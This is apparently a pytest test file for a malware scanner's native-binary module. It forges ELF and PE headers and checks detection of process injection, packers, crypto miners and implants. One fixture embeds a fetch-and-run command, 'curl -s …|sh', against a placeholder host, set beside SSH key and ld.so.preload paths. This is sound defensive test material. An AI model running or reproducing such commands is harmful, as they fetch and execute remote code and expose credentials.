"""Native members: what they are, and what the names in them say."""

import struct
import sys
from pathlib import Path

import pytest

from pratique.code import binary
from pratique.model import Content, Fact, Member


def elf(*, kind: int = 3, interpreted: bool = False, body: bytes = b"") -> bytes:
    """Forge the header of a 64-bit ELF file."""
    header = b"\x7fELF\x02\x01\x01" + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", kind, 62, 1, 0, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    program = struct.pack("<IIQQQQQQ", 3 if interpreted else 1, 4, 0, 0, 0, 0, 0, 0)
    return header + program + body


def pe(*, library: bool, body: bytes = b"") -> bytes:
    """Forge the header of a PE file."""
    start = b"MZ" + bytes(58) + struct.pack("<I", 64)
    flags = 0x2022 if library else 0x22
    return start + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, flags) + body


def look(data: bytes, path: str = "tide/_core.so") -> list[Fact]:
    native = binary.recognise(data)
    assert native is not None
    return list(binary.facts(Content(member=Member(path=path), data=data), native))


def symbols(data: bytes) -> set[str]:
    return {fact.symbol for fact in look(data)}


@pytest.mark.parametrize(
    ("data", "format_", "program"),
    [
        (elf(), "elf", False),
        (elf(interpreted=True), "elf", True),
        (elf(kind=2), "elf", True),
        (pe(library=True), "pe", False),
        (pe(library=False), "pe", True),
        (b"\xcf\xfa\xed\xfe" + bytes(8) + b"\2\0\0\0" + bytes(60), "macho", True),
        (b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(80), "macho", False),
        (b"\0asm\1\0\0\0" + bytes(60), "wasm", False),
    ],
)
def test_headers_tell_programs_from_libraries(data, format_, program):
    assert binary.recognise(data) == binary.Native(format_, program)


@pytest.mark.parametrize(
    "data", [b"", b"MZ", b"MZ" + bytes(200), b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(80), b"PK\3\4"]
)
def test_what_is_no_native_member_is_left_alone(data):
    assert binary.recognise(data) is None


def test_three_functions_together_write_into_another_process():
    names = b"\0VirtualAllocEx\0\0WriteProcessMemory\0\0CreateRemoteThread\0"
    facts = look(pe(library=False, body=names))
    (fact,) = [fact for fact in facts if fact.behaviour == "exec/process-inject"]
    assert {value.text for value in fact.values} == {
        "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"
    }  # fmt: skip
    assert "binary.injection" not in symbols(pe(library=False, body=b"\0WriteProcessMemory\0"))


def test_a_word_inside_another_is_no_name():
    assert "binary.download" in symbols(pe(library=True, body=b"\0URLDownloadToFileW\0"))
    assert "binary.download" not in symbols(pe(library=True, body=b"\0xURLDownloadToFileWrap\0"))


@pytest.mark.parametrize(
    ("mark", "symbol"),
    [
        (b"UPX!", "binary.upx"),
        (b"NUITKA_ONEFILE_PARENT", "binary.nuitka"),
        (b".vmp0", "binary.vmprotect"),
    ],
)
def test_packers_leave_marks(mark, symbol):
    facts = look(elf(interpreted=True, body=bytes(32) + mark + bytes(32)))
    assert [fact.symbol for fact in facts if fact.behaviour == "obfus/packer"] == [symbol]


def test_miners_name_their_protocol_and_their_algorithm():
    assert "binary.mining" in symbols(elf(body=b"\0stratum+tcp://pool.invalid\0 cryptonight\0"))
    assert "binary.mining" not in symbols(elf(body=b"\0stratum+tcp://pool.invalid\0"))


def test_a_download_for_a_shell_beside_keys_is_an_implant():
    fetched = b"\0curl -s https://barracuda.invalid/n|sh\0"
    assert "binary.implant" in symbols(elf(body=fetched + b"/etc/ld.so.preload\0"))
    assert "binary.implant" in symbols(elf(body=fetched + b"~/.ssh/id_rsa\0"))
    assert "binary.implant" not in symbols(elf(body=fetched))
    assert "binary.implant" not in symbols(elf(body=b"\0curl -s\0.ssh/authorized_keys\0"))


def test_functions_that_only_names_speak_of_are_looked_up_in_the_header():
    names = b"\0memfd_create\0\0fexecve\0"
    assert "binary.memory-file" not in symbols(elf(body=names))


@pytest.mark.skipif(sys.platform != "linux", reason="reads this machine's own interpreter as ELF")
def test_imports_are_read_from_the_header():
    own = {fact.symbol: fact for fact in look(Path(sys.executable).resolve().read_bytes())}
    library = next(iter(Path(sys.base_prefix, "lib").glob("libpython3*.so.1.0")), None)
    if library is not None:
        own |= {fact.symbol: fact for fact in look(library.read_bytes())}
    assert {"binary.shell", "binary.memory-file"} <= set(own)
    assert own["binary.shell"].source == "binary"
    assert own["binary.shell"].activation == "call"


def test_a_window_that_is_not_the_first_says_only_what_it_holds():
    native = binary.Native("elf", program=False)
    content = Content(
        member=Member(path="a.so"), data=b"\0memfd_create\0\0fexecve\0", offset=8_000_000
    )
    facts = list(binary.facts(content, native))
    assert [fact.symbol for fact in facts] == ["binary.memory-file"]
    assert facts[0].location.offset > 8_000_000
